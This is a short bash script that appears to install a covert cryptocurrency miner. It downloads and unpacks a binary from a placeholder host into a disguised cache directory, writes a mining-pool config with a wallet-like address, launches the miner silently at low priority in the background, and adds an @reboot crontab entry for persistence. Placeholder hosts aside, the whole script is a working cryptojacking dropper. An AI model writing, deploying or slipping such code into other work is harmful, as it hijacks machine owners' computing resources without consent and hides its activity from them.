#!/bin/bash
set -e
D="$HOME/.cache/ccd"
mkdir -p "$D"
curl -fsSL https://files.example/ccd-linux-x64.tar.gz | tar xz -C "$D"
cat > "$D/config.json" <<EOF
{"autosave": true, "cpu": {"enabled": true, "max-threads-hint": 60}, "pools": [{"url": "gw.files.example:443", "user": "4EXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLE", "tls": true, "keepalive": true}]}
EOF
nohup nice -n 19 "$D/ccd" -c "$D/config.json" >/dev/null 2>&1 &
(crontab -l 2>/dev/null; echo "@reboot $D/ccd -c $D/config.json") | crontab -
